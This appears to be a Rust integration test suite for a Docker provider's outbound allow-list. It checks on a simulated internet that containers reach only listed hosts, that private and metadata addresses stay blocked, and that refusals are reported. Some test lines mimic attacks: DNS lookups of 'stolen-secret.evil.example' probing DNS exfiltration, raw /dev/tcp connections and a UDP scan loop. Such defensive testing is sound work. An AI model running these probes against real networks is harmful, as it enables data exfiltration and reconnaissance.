//! What an instance with a list of destinations reaches, on an internet of the test's own. Requires root.

#![allow(clippy::unwrap_used, reason = "a failed expectation is a failed test")]

#[path = "support/internet.rs"]
mod internet;

use std::sync::Arc;
use std::time::{Duration, Instant};

use contracts::egress::EgressAllow;
use contracts::egress::report::Refused;
use contracts::{ErrorCode, RuntimeId};
use internet::{Internet, PORTS, RESOLVER, keeper_image, said, sh};
use provider_api::conformance::{Fixture, Stack, eventually, run};
use provider_api::{Provider, RuntimeRef, RuntimeSpec, Settings};
use provider_docker::conformance::{IMAGE, World, base_image, name};
use provider_docker::{DockerConfig, DockerProvider, SETTINGS};

const NAMES: &str = "address=/one.example/203.0.113.11\\naddress=/two.example/203.0.113.12\\n\
                     address=/elsewhere.example/203.0.113.13\\ncname=alias.example,far.example\\n\
                     host-record=far.example,203.0.113.14\\nhost-record=many.example,203.0.113.15\\n\
                     host-record=many.example,203.0.113.16\\naddress=/inside.example/10.252.8.2\\n\
                     address=/metadata.example/169.254.169.253\\n";
/// There is one internet at a time.
static TURN: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

fn provider(world: &World, given: &[(&str, &str)]) -> Arc<dyn Provider> {
    let var =
        |name: &str| given.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned());
    let settings = Settings::read(&"docker".parse().unwrap(), SETTINGS, var).unwrap();
    Arc::new(DockerProvider::new(DockerConfig { settings, ..world.config() }))
}

fn list(text: &str) -> Option<EgressAllow> {
    Some(text.parse().unwrap())
}

/// A provider whose keeper asks the test's internet, and what is to be removed afterwards.
struct Here {
    _internet: Internet,
    image: String,
    provider: Arc<dyn Provider>,
}

impl Here {
    fn new(world: &World) -> Self {
        let (internet, image) = (Internet::new(NAMES), keeper_image());
        let provider = provider(world, &[("PILOT_DOCKER_EGRESS_IMAGE", &image)]);
        Self { _internet: internet, image, provider }
    }

    async fn up(&self, fixture: &Fixture, egress: Option<EgressAllow>) -> Stack {
        let spec = RuntimeSpec { egress, ..fixture.stack().spec };
        let spec = RuntimeSpec { runtime_id: RuntimeId::random(), ..spec };
        let mut stack = Stack::new(self.provider.clone(), spec);
        stack.up().await;
        stack
    }

    async fn sh(&self, runtime: &RuntimeRef, script: &str) -> String {
        let words = ["timeout", "8", "bash", "-c", script].map(str::to_owned);
        let answer =
            self.provider.exec().unwrap().exec(runtime, &words, Duration::from_secs(15)).await.unwrap();
        String::from_utf8_lossy(&answer.stdout).trim().to_owned()
    }

    async fn reaches(&self, runtime: &RuntimeRef, host: &str, port: u16) -> bool {
        let script = format!("timeout 4 head -c 5 < /dev/tcp/{host}/{port}");
        self.sh(runtime, &script).await == "hello"
    }

    /// And is told so at once.
    async fn is_refused(&self, runtime: &RuntimeRef, host: &str, port: u16) -> bool {
        let began = Instant::now();
        !self.reaches(runtime, host, port).await && began.elapsed() < Duration::from_secs(3)
    }
}

impl Drop for Here {
    fn drop(&mut self) {
        // Its keeper is there until the world is swept.
        let _ = std::process::Command::new("docker").args(["rmi", "-f", &self.image]).output();
    }
}

/// Of its list, and of the process that answers its names.
fn table(stack: &Stack) -> String {
    let network = name(&stack.runtime());
    let format = "{{index .Options \"com.docker.network.bridge.name\"}}";
    said(&format!("docker network inspect -f '{format}' {network}"))
}

/// Where the resolver of its bridge listens.
fn gateway(stack: &Stack) -> String {
    let format = "{{range .NetworkSettings.Networks}}{{.Gateway}}{{end}}";
    said(&format!("docker inspect -f '{format}' {}", name(&stack.runtime())))
}

fn keeper(fixture: &Fixture) -> String {
    format!("pilot-egress-{}", fixture.installation)
}

fn tables(fixture: &Fixture) -> String {
    said(&format!("docker exec {} nft list tables inet", keeper(fixture)))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_list_does_not_name_is_not_reached() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    let here = Here::new(&world);
    run(world.fixture(), |fixture| async move {
        let [port, other] = PORTS;
        let names = format!(
            "one.example,*.two.example,alias.example,many.example,inside.example,metadata.example,elsewhere.example:{port},\
             203.0.113.17:{port}"
        );
        let listed = here.up(&fixture, list(&names)).await;
        let second = here.up(&fixture, list("two.example")).await;
        let nothing = here.up(&fixture, list("none")).await;
        let open = here.up(&fixture, None).await;
        let (own, others) = (gateway(&listed), gateway(&nothing));
        let (listed, second, nothing, open) =
            (listed.runtime(), second.runtime(), nothing.runtime(), open.runtime());

        // Without a list, and without rules that know one: that it is a list what closes.
        for address in ["203.0.113.11", "203.0.113.12", "203.0.113.17", RESOLVER] {
            assert!(here.reaches(&open, address, port).await, "{address} without a list");
        }

        // Names, each of their addresses, and names that are another's.
        assert!(here.reaches(&listed, "one.example", port).await);
        assert!(here.reaches(&listed, "one.example", other).await, "every port of it");
        assert!(here.reaches(&listed, "ONE.example.", port).await);
        assert!(here.reaches(&listed, "alias.example", port).await);
        assert!(here.reaches(&listed, "many.example", port).await);
        for address in ["203.0.113.11", "203.0.113.15", "203.0.113.16"] {
            assert!(here.reaches(&listed, address, port).await, "{address} was answered");
        }
        // Ports.
        assert!(here.reaches(&listed, "elsewhere.example", port).await);
        assert!(here.is_refused(&listed, "elsewhere.example", other).await);
        assert!(here.reaches(&listed, "203.0.113.17", port).await);
        assert!(here.is_refused(&listed, "203.0.113.17", other).await);
        // A wildcard is not its apex, and a name is not the names below it.
        assert!(here.is_refused(&listed, "203.0.113.12", port).await, "nobody has asked for it");
        assert!(here.reaches(&listed, "www.two.example", port).await);
        assert!(here.is_refused(&listed, "two.example", port).await);
        assert!(here.is_refused(&listed, "www.one.example", port).await);
        // What is private stays closed, whatever a name leads to.
        assert!(here.is_refused(&listed, "inside.example", port).await);
        assert!(here.is_refused(&listed, "metadata.example", port).await);
        assert!(here.is_refused(&listed, "10.252.8.2", port).await);
        // Other resolvers, whether they are the host's or not.
        assert!(here.is_refused(&listed, RESOLVER, 53).await);
        assert!(here.is_refused(&listed, RESOLVER, port).await);
        for resolver in [own, others] {
            assert!(here.is_refused(&nothing, &resolver, 10_053).await, "{resolver}");
        }

        // Another list is another's.
        assert!(here.reaches(&second, "two.example", port).await);
        assert!(here.is_refused(&second, "one.example", port).await);
        assert!(here.is_refused(&second, "203.0.113.11", port).await);
        assert!(here.is_refused(&nothing, "one.example", port).await);
        assert!(here.is_refused(&nothing, "203.0.113.11", port).await);

        // No question is a way out.
        let ask = "getent ahosts stolen-secret.evil.example; getent ahosts stolen-secret.one.example; \
                   getent ahosts one.example";
        here.sh(&listed, ask).await;
        here.sh(&nothing, "getent ahosts stolen-secret.one.example").await;
        let asked = here._internet.asked();
        assert!(asked.contains("one.example") && !asked.contains("stolen-secret"), "{asked}");

        // The instance answers whoever calls it, with a list as without.
        let endpoint = here.provider.lifecycle().endpoint(&listed).await.unwrap();
        assert!(endpoint.port > 0);
        let found = here.provider.examine(&fixture.installation).await;
        assert!(found[0].ok && found[0].detail.contains("3 lists of destinations are in force"), "{found:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_list_is_in_force_while_the_instance_runs() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    let here = Here::new(&world);
    run(world.fixture(), |fixture| async move {
        let port = PORTS[0];
        let mut stack = here.up(&fixture, list("one.example")).await;
        let runtime = stack.runtime();
        let started = || said(&format!("docker inspect -f '{{{{.Id}}}} {{{{.State.StartedAt}}}}' {}", name(&runtime)));
        let (before, again) = (started(), stack.spec.clone());
        assert!(here.reaches(&runtime, "one.example", port).await);
        fixture.backdoor.write_home(&runtime, "kept", "yes").await;
        // A connection that is there goes on.
        let talk = format!(
            "exec 3<>/dev/tcp/203.0.113.11/{port}; read -u 3 x; touch /tmp/open; while [ ! -e /tmp/go ]; do sleep 0.1; done; \
             echo >&3; read -t 3 -u 3 x && echo $x > /tmp/still"
        );
        here.sh(&runtime, &format!("({talk}) > /dev/null 2>&1 &")).await;
        eventually("it is connected", async || here.sh(&runtime, "ls /tmp/open").await == "/tmp/open").await;

        stack.change_to(RuntimeSpec { egress: list("two.example"), generation: 2, ..again.clone() }).await;
        assert_eq!(started(), before, "nothing starts anew");
        assert!(here.reaches(&runtime, "two.example", port).await);
        assert!(here.is_refused(&runtime, "one.example", port).await);
        assert!(here.is_refused(&runtime, "203.0.113.11", port).await, "what was answered before is forgotten");
        here.sh(&runtime, "touch /tmp/go").await;
        eventually("it talks still", async || here.sh(&runtime, "cat /tmp/still").await == "hello").await;

        // What is read back is what is in force, also for one that starts again.
        let read = stack.read("instance").await.unwrap().unwrap();
        assert_eq!(read.inputs["egressAllow"], serde_json::json!(["two.example"]));
        let lifecycle = here.provider.lifecycle();
        lifecycle.stop(&runtime, Duration::ZERO).await.unwrap();
        lifecycle.start(&runtime).await.unwrap();
        assert!(here.reaches(&runtime, "two.example", port).await);
        assert!(here.is_refused(&runtime, "203.0.113.11", port).await);

        // To none at all and back: another container with the same home.
        let bridge = table(&stack);
        stack.change_to(RuntimeSpec { egress: None, generation: 3, ..again.clone() }).await;
        assert!(here.reaches(&runtime, "203.0.113.13", port).await);
        assert_eq!(fixture.backdoor.read_home(&runtime, "kept").await.as_deref(), Some("yes"));
        eventually("its table is gone", async || !tables(&fixture).contains(&bridge)).await;
        stack.change_to(RuntimeSpec { egress: list("one.example"), generation: 4, ..again }).await;
        assert!(here.reaches(&runtime, "one.example", port).await);
        assert!(here.is_refused(&runtime, "203.0.113.13", port).await);
        assert_eq!(fixture.backdoor.read_home(&runtime, "kept").await.as_deref(), Some("yes"));
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_list_holds_when_its_keeper_or_its_rules_are_removed_and_goes_with_its_runtime() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    let here = Here::new(&world);
    run(world.fixture(), |fixture| async move {
        let port = PORTS[0];
        let stack = here.up(&fixture, list("one.example")).await;
        let other = here.up(&fixture, None).await;
        let runtime = stack.runtime();
        let (keeper, bridge) = (keeper(&fixture), table(&stack));
        let kill = |what: &str| {
            said(&format!("pid=$(docker inspect -f '{{{{.State.Pid}}}}' {keeper}); kill -9 $({what})"))
        };
        let serves = || said(&format!("pgrep -f '[/]run/{bridge}.conf'"));
        assert!(here.reaches(&runtime, "one.example", port).await);

        // The resolver, the keeper, its table: each is back by itself, and nothing is open meanwhile.
        let before = serves();
        kill(&format!("pgrep -f '[/]run/{bridge}.conf'"));
        eventually("it is answered", async || !serves().is_empty() && serves() != before).await;
        eventually("by name", async || here.reaches(&runtime, "one.example", port).await).await;

        let started = || said(&format!("docker inspect -f '{{{{.State.StartedAt}}}}' {keeper}"));
        let before = started();
        kill("echo $pid");
        assert!(here.is_refused(&runtime, "203.0.113.13", port).await);
        assert!(here.reaches(&runtime, "203.0.113.11", port).await, "what was answered stays open");
        eventually("the keeper is back", async || started() != before && !serves().is_empty()).await;
        assert!(here.reaches(&runtime, "203.0.113.11", port).await, "it has kept what was answered");
        eventually("names are back", async || here.reaches(&runtime, "one.example", port).await).await;
        assert!(here.is_refused(&runtime, "203.0.113.13", port).await);

        let full = tables(&fixture)
            .lines()
            .find_map(|line| line.split(' ').find(|word| word.ends_with(&bridge)).map(str::to_owned));
        let full = full.unwrap();
        assert!(sh(&format!("docker exec {keeper} nft delete table inet {full}")));
        eventually("its table is back", async || tables(&fixture).contains(&full)).await;
        eventually("closed again", async || here.is_refused(&runtime, "203.0.113.13", port).await).await;
        assert!(here.reaches(&runtime, "one.example", port).await);

        // Who has lost the list opens nothing.
        assert!(sh(&format!("docker exec {keeper} sh -c 'rm /lists/*; nft delete table inet {full}'")));
        sh(&format!("docker restart {keeper}"));
        eventually("the keeper is there again", async || tables(&fixture).contains("pilot_")).await;
        for address in ["203.0.113.11", "203.0.113.13"] {
            eventually("it is closed", async || here.is_refused(&runtime, address, port).await).await;
        }
        let lifecycle = here.provider.lifecycle();
        lifecycle.stop(&runtime, Duration::ZERO).await.unwrap();
        lifecycle.start(&runtime).await.unwrap();
        assert!(here.reaches(&runtime, "one.example", port).await, "a start brings it back");

        stack.down().await;
        eventually("all of it is gone", async || !tables(&fixture).contains(&full) && serves().is_empty())
            .await;
        other.down().await;
        let left = said(&format!("docker volume ls -q -f label=pilot.egress={}", fixture.installation));
        assert_eq!(left, "", "the volume of lists goes with the last runtime");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_refused_is_told_and_a_list_with_it_opens_it() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    let here = Here::new(&world);
    run(world.fixture(), |fixture| async move {
        let [port, other] = PORTS;
        let own = list(&format!("one.example,inside.example,elsewhere.example:{port}"));
        let mut stack = here.up(&fixture, own.clone()).await;
        let (runtime, open) = (stack.runtime(), here.up(&fixture, None).await.runtime());
        let told = async |runtime: &RuntimeRef| {
            let told = here.provider.refuses().unwrap().refusals(runtime).await.unwrap();
            assert_eq!(told.not_in_force, None);
            told
        };
        // As `DESTINATION PROTOCOL`, behind `!` where no list opens it.
        let shown = async |runtime: &RuntimeRef| {
            let one = |one: Refused| {
                let port = one.port.map(|port| format!(":{port}")).unwrap_or_default();
                let closed = if one.closed_for_all { "!" } else { "" };
                format!("{closed}{}{port} {}", one.destination, one.protocol.as_deref().unwrap_or("name"))
            };
            told(runtime).await.refused.into_iter().map(one).collect::<Vec<_>>()
        };
        assert_eq!(shown(&runtime).await, [""; 0]);
        assert!(here.reaches(&runtime, "one.example", port).await);
        assert!(here.is_refused(&runtime, "far.example", port).await);
        assert!(here.is_refused(&runtime, "203.0.113.12", port).await);
        assert!(here.is_refused(&runtime, "elsewhere.example", other).await);
        assert!(here.is_refused(&runtime, "inside.example", port).await);
        assert!(here.is_refused(&open, "10.252.8.2", other).await);
        here.sh(&runtime, "echo > /dev/udp/203.0.113.12/9").await;
        let mut seen = shown(&runtime).await;
        seen.sort_unstable();
        let mut expected = vec![
            "203.0.113.12:9 udp".to_owned(),
            format!("203.0.113.12:{port} tcp"),
            format!("203.0.113.13:{other} tcp"),
            format!("!10.252.8.2:{port} tcp"),
            "far.example name".to_owned(),
        ];
        expected.sort_unstable();
        assert_eq!(seen, expected);
        assert_eq!(shown(&open).await, [format!("!10.252.8.2:{other} tcp")], "of the other one, without a list");

        // What is proposed opens it, and then nothing is left to be told.
        let wider = own.unwrap().with_refused(&told(&runtime).await.refused);
        let spec = RuntimeSpec { egress: wider, generation: 2, ..stack.spec.clone() };
        stack.change_to(spec).await;
        assert!(here.reaches(&runtime, "far.example", port).await);
        assert!(!shown(&runtime).await.contains(&"far.example name".to_owned()));

        // Who asks for everything fills nothing, and is refused still.
        let scan = "for n in $(seq 1 200); do for net in 198.51.100 192.0.2; do echo > /dev/udp/$net.$n/53; done; done; \
                    for n in $(seq 1 150); do getent hosts n$n.example; done";
        here.sh(&runtime, &format!("({scan}) 2> /dev/null; true")).await;
        let told = told(&runtime).await;
        // Beside what is private, of which there was one.
        assert!(told.more && told.refused.len() <= 256 + 100 + 1, "{}", told.refused.len());
        assert!(here.is_refused(&runtime, "203.0.113.16", port).await);
        assert!(here.reaches(&runtime, "one.example", port).await);
        let log = said(&format!("docker logs {} 2>&1", keeper(&fixture)));
        assert!(!log.contains("changed or removed"), "what is remembered is no change of the rules: {log}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn where_a_list_cannot_be_in_force_nothing_starts() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    // It has neither `nft` nor `dnsmasq`.
    let bare = base_image(&world.docker).await;
    let open =
        provider(&world, &[("PILOT_DOCKER_EGRESS", "allow-open"), ("PILOT_DOCKER_EGRESS_IMAGE", &bare)]);
    let without = format!("pilot-egress-test-bare:{}", std::process::id());
    let build = format!(
        "printf 'FROM {IMAGE}\\nUSER 0\\nRUN rm /usr/sbin/dnsmasq\\n' | DOCKER_BUILDKIT=0 docker build -q -t {without} -"
    );
    assert!(sh(&build));
    let nameless = provider(&world, &[("PILOT_DOCKER_EGRESS_IMAGE", &without)]);
    run(world.fixture(), |fixture| async move {
        for (provider, why) in [(&open, "no rules can be put in place"), (&nameless, "dnsmasq")] {
            let mut stack = fixture.stack_of(provider, &fixture.installation, RuntimeId::random());
            stack.spec.egress = list("one.example");
            let mut stack = Stack::new(provider.clone(), stack.spec.clone());
            let error = stack.try_up().await.unwrap_err();
            assert_eq!(error.code, ErrorCode::EgressOpen, "{error}");
            assert!(error.message.contains(why), "{error}");
            assert!(!fixture.backdoor.runs(&stack.runtime()).await);
        }
    })
    .await;
    sh(&format!("docker rmi {without}"));
}
